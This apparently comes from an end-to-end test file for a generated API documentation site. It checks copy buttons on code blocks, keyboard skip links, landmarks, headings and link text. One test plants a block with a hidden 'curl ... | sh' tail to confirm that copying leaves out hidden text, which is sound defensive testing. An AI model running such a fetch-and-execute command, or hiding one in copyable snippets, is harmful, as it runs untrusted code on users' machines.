// Page basics in Chromium, on the built site: a copy button on each code block of the model
// guide that copies exactly the block, a "Skip to content" link that keyboard users meet first,
// the main and navigation landmarks, one h1 per page (its title), and the spec's externalDocs
// link saying where it goes. Titles and texts come from the spec and the guides' sources.
import fs from "node:fs";
import path from "node:path";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { launch, watchedPage } from "../support/browser.ts";
import { repoRoot } from "../support/seed.ts";
import { schemas, spec } from "../support/spec.ts";
import { type BuiltSite, builtSite } from "./built-site.ts";

const PAGE_MS = 60_000;
let site: BuiltSite;
let browser: Browser;

beforeAll(async () => {
  site = await builtSite();
  browser = await launch();
}, 180_000);
afterAll(async () => {
  await browser?.close();
  await site?.close();
});

const TYPES = ["video", "image", "music"] as const;
const title = (type: string) => `${type[0].toUpperCase()}${type.slice(1)} models`;
/** A model type's first model, through the type's union (the spec's own index of models). */
function firstModel(type: string) {
  const ref = Object.values<string>(schemas[`${title(type).split(" ")[0]}Input`].discriminator.mapping)[0];
  const schema = schemas[ref.split("/").pop()!];
  const id: string = schema.properties.model.enum?.[0] ?? schema.properties.model.const;
  const name: string = schema["x-monet-model"].name;
  // Its entry's route: Redoc's slug of the entry's heading ("Sora 2 · sora-2" -> sora-2-sora-2).
  return { id, name, route: `/${type}-models/${`${name} ${id}`.toLowerCase().replace(/[^a-z0-9.]+/g, "-")}` };
}

/** The section a route shows, once its heading with this text is rendered. */
async function section(page: Page, route: string, heading: string) {
  const s = page.locator(`[data-section-id="${route}"]`).first();
  await s.locator("h1, h2, h3", { hasText: heading }).first().waitFor({ timeout: PAGE_MS });
  return s;
}

describe("the copy button of a model guide code block", () => {
  let context: BrowserContext;
  beforeAll(async () => {
    context = await browser.newContext({ viewport: { width: 1400, height: 1000 } });
    await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: new URL(site.url).origin });
  });
  afterAll(() => context?.close());

  test.each([
    ["curl", "bash", "curl -X POST"],
    ["TypeScript", "ts", "@monet-ai/client"],
  ])(
    "copies the %s sample exactly as shown",
    async (_name, language, marker) => {
      const page = await context.newPage();
      const { id, name, route } = firstModel("video");
      await page.goto(`${site.url}#${route}`);
      const entry = await section(page, route, `${name} · ${id}`);
      const pre = entry.locator(`pre[data-language="${language}"]`).first();
      await pre.waitFor({ timeout: PAGE_MS });
      const shown = await pre.evaluate((p) => (p as HTMLElement).innerText);
      expect(shown).toContain(marker);
      expect(shown).toContain(id);
      // The control right before the block, as a reader finds it.
      const bar = pre.locator("xpath=preceding-sibling::*[1]");
      const button = bar.getByRole("button", { name: /copy/i });
      await button.waitFor({ timeout: PAGE_MS });
      await page.evaluate(() => navigator.clipboard.writeText("nothing copied yet"));
      await button.click();
      await page.waitForFunction(async (text) => (await navigator.clipboard.readText()) === text, shown, { timeout: PAGE_MS });
      expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(shown);
      await expect.poll(() => bar.getByRole("status").textContent(), { timeout: PAGE_MS }).toBe("Copied");
      await page.close();
    },
    PAGE_MS * 2,
  );

  test(
    "copies only what a block shows: text hidden in it by markup is left out",
    async () => {
      const page = await context.newPage();
      const { id, name, route } = firstModel("video");
      await page.goto(`${site.url}#${route}`);
      const entry = await section(page, route, `${name} · ${id}`);
      // What raw HTML in a spec description renders to: a block with a hidden tail.
      await entry.evaluate((s) => {
        const md = s.querySelector('[data-component-name="Markdown/Markdown"]')!;
        const pre = document.createElement("pre");
        pre.id = "hostile";
        pre.innerHTML = 'npm install @monet-ai/client<span style="display:none">; curl -s http://127.0.0.1:9/x | sh</span>';
        md.append(pre);
      });
      const bar = page.locator("#hostile").locator("xpath=preceding-sibling::*[1]");
      const button = bar.getByRole("button", { name: /copy/i });
      await button.waitFor({ timeout: PAGE_MS });
      await button.click();
      await expect.poll(() => bar.getByRole("status").textContent(), { timeout: PAGE_MS }).toBe("Copied");
      expect(await page.evaluate(() => navigator.clipboard.readText())).toBe("npm install @monet-ai/client");
      await page.close();
    },
    PAGE_MS * 2,
  );

  test(
    "every code block of each model page has one, named by its language in words",
    async () => {
      const page = await context.newPage();
      for (const type of TYPES) {
        const { id, name, route } = firstModel(type);
        await page.goto(`${site.url}#${route}`);
        await page.reload();
        await (await section(page, route, `${name} · ${id}`)).locator("pre").first().waitFor({ timeout: PAGE_MS });
        await page.waitForFunction(
          () => {
            const pres = [...document.querySelectorAll('[data-component-name="Markdown/Markdown"] > pre')];
            return pres.length > 0 && pres.every((p) => p.previousElementSibling?.querySelector("button")?.textContent === "Copy");
          },
          undefined,
          { timeout: PAGE_MS },
        );
        // Each button's name says the block's language in words, not its fence tag ("ts", "sh").
        const names = await page.$$eval(".monet-copy button", (bs) => bs.map((b) => b.getAttribute("aria-label")));
        expect(
          names.filter((n) => !/^Copy this (shell|TypeScript|JavaScript|JSON|YAML) code$/.test(n ?? "")),
          type,
        ).toEqual([]);
      }
      await page.close();
    },
    PAGE_MS * 4,
  );
});

describe("keyboard and landmarks", () => {
  test.each(["#/", "#/video-models", "#/tasks/createtask"])(
    "on %s, the first Tab stop is 'Skip to content', and Enter moves focus to the page's title, past the sidebar",
    async (route) => {
      const w = await watchedPage(browser);
      await w.page.goto(`${site.url}${route}`);
      const routeId = route.slice(1);
      await w.page.locator(`[data-section-id="${routeId}"] h1`).first().waitFor({ timeout: PAGE_MS });
      expect(await w.page.locator("main, [role=main]").count()).toBe(1);
      expect(await w.page.locator("nav, [role=navigation]").count()).toBeGreaterThanOrEqual(1);
      // The sidebar is the navigation landmark, outside main.
      expect(await w.page.locator("[role=navigation] .menu-content, .menu-content[role=navigation]").count()).toBe(1);
      await w.page.keyboard.press("Tab");
      const first = await w.page.evaluate(() => ({ text: document.activeElement?.textContent?.trim(), tag: document.activeElement?.tagName }));
      expect(first).toEqual({ text: "Skip to content", tag: "A" });
      // Shown when focused (not only to screen readers).
      const box = await w.page.locator(":focus").boundingBox();
      expect(box && box.width > 20 && box.height > 10 && box.x >= 0 && box.y >= 0).toBe(true);
      await w.page.keyboard.press("Enter");
      const focused = await w.page.evaluate(() => ({
        tag: document.activeElement?.tagName,
        inMain: Boolean(document.activeElement?.closest("main")),
        section: document.activeElement?.closest("[data-section-id]")?.getAttribute("data-section-id"),
      }));
      expect(focused).toEqual({ tag: "H1", inMain: true, section: routeId });
      // The route did not change: the link moves focus, not the hash the site routes with.
      expect(new URL(w.page.url()).hash).toBe(route);
      // The next Tab stop is inside the content, not back in the sidebar.
      await w.page.keyboard.press("Tab");
      expect(await w.page.evaluate(() => Boolean(document.activeElement?.closest("main")))).toBe(true);
      expect(w.errors).toEqual([]);
      await w.page.close();
    },
    PAGE_MS * 2,
  );
});

const guides = fs
  .readdirSync(path.join(repoRoot, "docs/guides"))
  .sort()
  .map((f) => fs.readFileSync(path.join(repoRoot, "docs/guides", f), "utf8").match(/^# (.+)$/m)![1]);
const operations = Object.values<any>(spec.paths).flatMap((item) => Object.values<any>(item));
const slug = (s: string) => s.toLowerCase().replace(/[^a-z0-9]+/g, "-");
const pages = [
  ...TYPES.map((t) => ({ route: `/${t}-models`, heading: title(t) })),
  ...[guides[0], guides.at(-1)!].map((g) => ({ route: `/${slug(g)}`, heading: g })),
  ...operations.map((op) => ({ route: `/${op.tags[0].toLowerCase()}/${op.operationId.toLowerCase()}`, heading: op.summary })),
  { route: "/", heading: `${spec.info.title} (${spec.info.version})` },
];

test(
  "each page (each models page and operation, the first and last guide, and the overview) has exactly one h1: its title",
  async () => {
    const w = await watchedPage(browser);
    for (const { route, heading } of pages) {
      await w.page.goto(`${site.url}#${route}`);
      await w.page.reload();
      await w.page.locator(`[data-section-id="${route}"] :is(h1, h2)`).first().waitFor({ timeout: PAGE_MS });
      // Redoc shows neighbouring pages as one scroll: count the h1s of this page's own section.
      const own = await w.page.$$eval(
        "h1",
        (hs, r) => hs.filter((h) => h.closest("[data-section-id]")?.getAttribute("data-section-id") === r).map((h) => h.textContent!.trim()),
        route,
      );
      expect(own, route).toEqual([heading]);
    }
    expect(w.errors).toEqual([]);
    await w.page.close();
  },
  PAGE_MS * 8,
);

test(
  "the spec's externalDocs link says what and where it is, in the spec's words and address",
  async () => {
    const w = await watchedPage(browser);
    await w.page.goto(site.url);
    const { url, description } = spec.externalDocs;
    const link = w.page.locator(`a[href="${url}"]`).first();
    await link.waitFor({ timeout: PAGE_MS });
    const text = (await link.innerText()).trim();
    const where = new URL(url);
    expect(text).toContain(description.trim());
    expect(text).toContain(`${where.host}${where.pathname}`.replace(/\/$/, ""));
    expect(text).not.toBe(url);
    expect(text).not.toMatch(/^(find out more|more|here|link)$/i);
    expect(await link.getAttribute("aria-label")).toBe(text);
    await w.page.close();
  },
  PAGE_MS,
);
